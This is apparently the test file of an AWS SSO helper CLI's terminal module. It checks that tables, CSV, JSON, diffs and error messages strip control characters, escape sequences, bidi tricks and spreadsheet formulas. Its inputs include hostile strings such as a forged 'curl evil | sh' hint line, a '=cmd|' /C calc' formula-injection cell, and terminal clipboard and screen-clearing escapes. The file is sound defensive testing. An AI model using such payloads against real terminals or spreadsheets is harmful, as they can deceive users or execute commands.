from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from awssso_helper.environment import Environment
from awssso_helper.errors import AwsssoError, InterruptedByUserError, LoginNeededError
from awssso_helper.terminal import Terminal, duration, local_time, one_line, safe, safe_line

# Any text there is, and texts of what is dangerous only.
DANGEROUS = (
    "\x00\x07\x08\t\n\r\x0b\x1b\x7f\x85\x9b\xad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f"
    "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\u206a\u2800\u3164\ud800\udfff\ue000"
    "\ufe0f\ufeff\uffa0\ufff9\uffff\U000e0001\U000e0041\U000e0100\U0010ffff\\xun01b[]; a"
)
ANY_TEXT = st.text(st.characters(exclude_categories=[]), max_size=150) | st.text(DANGEROUS, max_size=40)
PICKED = [
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "prod\u202etset",
    "\u2066prod\u2069",
    "a\r\x1b[Kb",
    "a\nhint: curl evil | sh",
    "\ud83d\ude00",
    "[/]",
    "[@click=app.quit]x[/]",
    "x" * 5000,
    "\x1b" * 5000,
    "\u0301" * 300,
    "\ufeffprod",
    "pro\u200bd",
    "prod\u3164",
    "prod\U000e0041",
]
INVISIBLE = frozenset(
    "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180e\u180f\u2800\u3164\ufe00\ufe0e\ufe0f\uffa0\U000e0100\U000e01ef"
)


def is_harmless(text, allowed=""):
    return all(
        character in allowed
        or (
            unicodedata.category(character) not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
            and character not in INVISIBLE
        )
        for character in text
    )


@given(ANY_TEXT)
@settings(max_examples=1500)
def test_f1_no_text_at_all_gets_a_control_character_through(text):
    shown = safe(text)
    assert is_harmless(shown)
    assert len(shown) <= 128
    assert shown.encode().decode() == shown
    assert is_harmless(safe_line(text), allowed="\t")


@pytest.mark.parametrize("text", PICKED, ids=ascii)
def test_known_tricks_do_not_work(text):
    assert is_harmless(safe(text))
    assert is_harmless(safe_line(text), allowed="\t")


@given(st.sets(ANY_TEXT.filter(lambda text: len(text) <= 12), min_size=2, max_size=4))
@example({"\x1b", "\\x1b"})
@example({"\\", "\\\\"})
@example({"prod", "prod\u200b"})
@example({"\u202e", "\\u202e"})
@settings(max_examples=1000)
def test_f3_different_short_names_look_different(names):
    assert len({safe(name) for name in names}) == len(names)


@given(
    st.text(st.characters(categories=["L", "N", "P", "S"], exclude_characters="\\" + "".join(INVISIBLE)), max_size=128)
)
@settings(max_examples=200)
def test_an_honest_name_is_shown_as_it_is(name):
    shown = safe(name)
    assert shown == name or not is_harmless(name)


def test_names_of_every_script_are_shown_as_they_are():
    for name in ("Büro Zürich", "東京 本番", "Прод", "עברית", "ไทย", "data-platform (eu)", "a\u00a0b", "🚀 launch"):
        assert safe(name) == name


def test_a_long_text_says_that_there_is_more():
    assert safe("x" * 128) == "x" * 128
    assert safe("x" * 129) == "x" * 127 + "…"


# What is printed


@pytest.fixture
def terminal():
    return Terminal(Environment())


def columns_of(line, widths):
    """Cut a line where the columns begin on a screen of fixed cells."""
    cells, at = [], 0
    for character in line:
        cells.append((at, character))
        at += (
            0
            if unicodedata.category(character) in ("Mn", "Me")
            else 2
            if unicodedata.east_asian_width(character) in "WF"
            else 1
        )
    return ["".join(c for place, c in cells if start <= place < end) for start, end in widths]


def test_columns_stay_aligned_whatever_the_width_of_the_names(terminal, capsys):
    names = [
        "prod",
        "東京 本番",
        "Zu\u0308rich",
        "ไทยที่นี่",
        "한국",
        "🚀 launch",
        "\x1b[31mred",
        "\uff46\uff55\uff4c\uff4c",
    ]
    terminal.table(["name", "id"], [[name, f"{number:012}"] for number, name in enumerate(names)])
    lines = capsys.readouterr().out.splitlines()
    wide = sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in safe("\x1b[31mred"))
    seen = [columns_of(line, [(0, wide), (wide + 2, 200)]) for line in lines]
    assert [name.rstrip() for name, _ in seen] == ["name", *(safe(name) for name in names)]
    assert [number for _, number in seen] == ["id", *(f"{number:012}" for number in range(len(names)))]


@pytest.mark.parametrize("name", PICKED, ids=ascii)
def test_a_name_is_one_line_of_a_table(terminal, capsys, name):
    terminal.table(["name", "id"], [[name, "1"], ["x", "2"]])
    lines = capsys.readouterr().out.split("\n")
    assert len(lines) == 4
    assert all(is_harmless(line) for line in lines)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0"])
def test_a_cell_that_a_spreadsheet_would_run_is_text(terminal, capsys, value):
    terminal.csv(["name"], [[value], ["12"]])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["name"], [f"'{value}"], ["12"]]


@given(rows=st.lists(st.tuples(ANY_TEXT, ANY_TEXT), max_size=5))
@settings(max_examples=200)
def test_csv_has_a_row_for_every_row_and_no_formula(rows):
    buffer, stdout = io.StringIO(), sys.stdout
    sys.stdout = buffer
    try:
        Terminal(Environment({})).csv(["a", "b"], rows)
    finally:
        sys.stdout = stdout
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert len(read) == len(rows) + 1
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in read for cell in row)
    assert is_harmless(buffer.getvalue(), allowed="\n")


def test_json_is_ascii_and_keeps_every_name_as_it_was(terminal, capsys):
    terminal.json({"names": PICKED})
    out = capsys.readouterr().out
    assert out.isascii()
    assert is_harmless(out, allowed="\n")
    assert json.loads(out)["names"][:7] == PICKED[:7]


def test_a_diff_shows_control_characters_and_keeps_its_lines(terminal, capsys):
    terminal.diff("--- a\n+++ b\n+x\x1b[2J\u2028+forged\n \ty\r\n")
    assert capsys.readouterr().out == "--- a\n+++ b\n+x\\x1b[2J\\u2028+forged\n \ty\n"
    terminal.diff("")
    assert capsys.readouterr().out == ""


def test_an_error_shows_no_control_characters_of_the_file_that_it_quotes(terminal, capsys):
    status = terminal.fail(LoginNeededError("bad \x1b]52;c;x\x07 name\nforged: line", hint="rm \x1b[2J"))
    said = capsys.readouterr()
    assert (said.out, status) == ("", 3)
    assert said.err == "awssso: bad \\x1b]52;c;x\\x07 name\\nforged: line\nhint: rm \\x1b[2J\n"


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
def test_a_stdout_of_any_encoding_gets_every_name(tmp_path, encoding):
    program = (
        "from awssso_helper.terminal import Terminal; from awssso_helper.environment import Environment;"
        "Terminal(Environment()).table(['name'], [['東京'], ['é'], ['x' * 200]])"
    )
    environment = {**os.environ, "PYTHONIOENCODING": f"{encoding}:strict", "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, env=environment, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    assert len(done.stdout.decode(encoding).splitlines()) == 4


def test_f1_on_a_real_terminal_no_byte_of_a_name_is_a_control_byte(tmp_path):
    program = (
        "import json, os; from awssso_helper.terminal import Terminal, safe\n"
        "from awssso_helper.environment import Environment\n"
        "t = Terminal(Environment()); names = json.loads(os.environ['NAMES'])\n"
        "t.table(['n'], [[n] for n in names]); t.csv(['n'], [[n] for n in names]); t.json(names)\n"
        "[t.tell(safe(n)) for n in names]; t.diff('\\n'.join(' ' + n for n in names))\n"
    )
    variables = {**os.environ, "NAMES": json.dumps(PICKED), "NO_COLOR": "1", "PYTHONPATH": os.pathsep.join(sys.path)}
    variables["PYTHONIOENCODING"] = "utf-8"
    leader, follower = pty.openpty()
    child = subprocess.Popen([sys.executable, "-c", program], stdout=follower, stderr=follower, env=variables)
    os.close(follower)
    seen = b""
    while part := read_of(leader):
        seen += part
    os.close(leader)
    assert child.wait(30) == 0
    assert b"prod" in seen
    assert not {byte for byte in seen if byte < 32 or byte == 127} - set(b"\r\n")
    assert is_harmless(seen.decode(), allowed="\r\n")


def read_of(descriptor):
    try:
        return os.read(descriptor, 65536)
    except OSError:  # the other end is closed
        return b""


# One line for the SDKs


@given(message=ANY_TEXT, hint=ANY_TEXT)
@settings(max_examples=500)
def test_any_error_is_one_line_of_printable_ascii(message, hint):
    line = one_line(AwsssoError(message, hint=hint))
    assert len(line) <= 300
    assert all(" " <= character <= "~" for character in line)
    assert line.startswith("awssso: ")


def test_the_longest_error_is_still_one_short_line():
    assert len(one_line(AwsssoError("x" * 5000, hint="y" * 5000))) == 300


@pytest.mark.parametrize(
    ("hint", "end"),
    [
        ("awssso login -S corp", "; run: awssso login -S corp"),
        (
            "awssso sync, or ask the people who assign your roles",
            "; awssso sync, or ask the people who assign your roles",
        ),
        ("unlock the keyring", "; unlock the keyring"),
        ("", ""),
    ],
)
def test_the_line_names_the_command_to_type(hint, end):
    assert one_line(AwsssoError("no", hint=hint)) == f"awssso: no{end}"


# Questions


@pytest.mark.parametrize(
    ("typed", "yes"),
    [("y\n", True), ("YES\n", True), (" yes \n", True), ("\n", False), ("n\n", False), ("yy\n", False), ("j\n", False)],
)
def test_only_a_typed_yes_is_a_yes(terminal, monkeypatch, capsys, typed, yes):
    monkeypatch.setattr(sys, "stdin", io.StringIO(typed))
    assert terminal.confirmed("Really?") is yes
    assert capsys.readouterr().out == ""


def test_an_empty_answer_means_the_default(terminal, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n  eu-west-1 \n"))
    assert terminal.ask("Region", "us-east-1") == "us-east-1"
    assert terminal.ask("Region", "us-east-1") == "eu-west-1"


def test_the_end_of_input_is_an_interruption_and_no_answer(terminal, monkeypatch):
    for question in (terminal.ask, terminal.confirmed):
        monkeypatch.setattr(sys, "stdin", io.StringIO(""))
        with pytest.raises(InterruptedByUserError) as caught:
            question("Delete?")
        assert caught.value.exit_status == 130


# Times


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (-5, "expired"),
        (0, "expired"),
        (0.9, "expired"),
        (40, "40s"),
        (60, "1m"),
        (3599, "59m"),
        (3600, "1h 00m"),
        (28_740, "7h 59m"),
        (90_000, "1d 1h"),
    ],
)
def test_a_time_left_reads_as_people_say_it(seconds, text):
    assert duration(seconds) == text


def test_a_moment_has_its_date_only_on_another_day(monkeypatch):
    import time

    from freezegun import freeze_time

    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    with freeze_time("2026-11-24 10:00:00"):
        assert local_time(1_795_521_600) == "12:00"
        assert local_time(1_795_521_600 + 86400) == "2026-11-25 12:00"
